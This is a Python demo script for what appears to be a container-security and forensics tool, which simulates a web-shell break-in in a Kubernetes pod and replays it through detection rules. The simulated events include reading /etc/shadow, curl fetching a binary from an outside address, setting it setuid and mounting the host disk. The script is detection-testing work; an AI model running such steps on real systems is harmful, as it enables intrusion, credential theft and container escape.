"""A web shell in a pod, from the first request to the escape: recorded, replayed through rules, explained.

    make demo

Everything happens in a temporary folder; pass a folder to keep the files.
"""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
import tempfile
from pathlib import Path

from tiercel.capture.scenario import Scenario


def break_in() -> Scenario:
    """Return the story: a shell through a web server reads secrets, calls home and tries to leave its container."""
    story = Scenario("node-1")
    web = story.container("web", image="docker.io/library/nginx:1.25", pod=story.pod("web-7d4b9c", namespace="shop"))
    nginx = story.process("/usr/sbin/nginx", "-g", "daemon off;", container=web)

    story.wait(12.5)
    request = nginx.accept(nginx.listen(("10.0.0.7", 80)), ("203.0.113.9", 51544))
    nginx.receive(request, b"GET /shell.php?c=id HTTP/1.1\r\n")
    shell = nginx.fork()
    shell.tty = 34816
    shell.exec("/bin/bash", "-i")
    story.wait(2)

    cat = shell.spawn("/usr/bin/cat", "/etc/shadow")
    cat.read(cat.open("/etc/shadow"), b"root:$6$...")
    cat.exit()

    story.wait(4)
    curl = shell.spawn("/usr/bin/curl", "-o", "/tmp/.b", "http://198.51.100.23/b")
    curl.receive(curl.connect(("198.51.100.23", 80)), b"\x7fELF")
    curl.exit()
    chmod = shell.spawn("/usr/bin/chmod", "u+s", "/tmp/.b")
    chmod.chmod("/tmp/.b", 0o4755)
    chmod.exit()

    story.wait(9)
    mount = shell.spawn("/usr/bin/mount", "/dev/sda1", "/mnt")
    mount.mount("/dev/sda1", "/mnt", "ext4")
    mount.exit()
    return story


def run(*arguments: str) -> None:
    """Show a command and run it."""
    print(f"\n$ tiercel {shlex.join(arguments)}", flush=True)
    environment = {**os.environ, "TZ": "UTC", "TIERCEL_KEY": "key.pem"}
    subprocess.run([sys.executable, "-m", "tiercel", *arguments], check=True, env=environment)


def main() -> None:
    with tempfile.TemporaryDirectory() as scratch:
        os.chdir(sys.argv[1] if len(sys.argv) > 1 else scratch)
        capture = Path("break-in.scap")
        break_in().write(capture)
        print(f"A web shell in a pod, recorded: {capture} ({capture.stat().st_size:,} bytes)")
        run("scan", str(capture), "--stats")
        run("scan", str(capture), "--json", "-o", "priority=critical")
        run("scan", str(capture), "--explain", "-o", "priority=critical")
        shown = "%evt.time %proc.cmdline %evt.type %fd.name"
        run("events", str(capture), "proc.name = curl and fd.type = ipv4", "-p", shown)
        if Path("web-shop").exists():  # from an earlier run
            return
        run("investigate", str(capture), "--examiner", "A. Name", "-o", "web-shop")
        run("case", "tree", "web-shop")
        run("case", "verify", "web-shop", "--examiner", "A. Name")


if __name__ == "__main__":
    main()
